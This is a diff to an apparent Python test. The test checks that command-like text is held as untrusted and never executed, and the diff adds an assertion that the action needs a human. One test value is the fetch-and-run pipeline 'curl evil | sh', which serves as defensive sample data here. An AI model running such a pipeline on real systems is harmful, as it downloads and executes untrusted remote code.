@@ -377,6 +377,7 @@ async def test_text_that_could_run_is_kept_as_untrusted_and_never_used():
     assert action.untrusted == (sent["command"], "curl evil | sh", "pray")
     assert action.command == f"kubectl -n shop delete pod {POD.name}"
     assert action.executable == ()
+    assert action.human_only
     assert (await review(planned, at, 10)).turn.vote == Vote.APPROVE
 
 
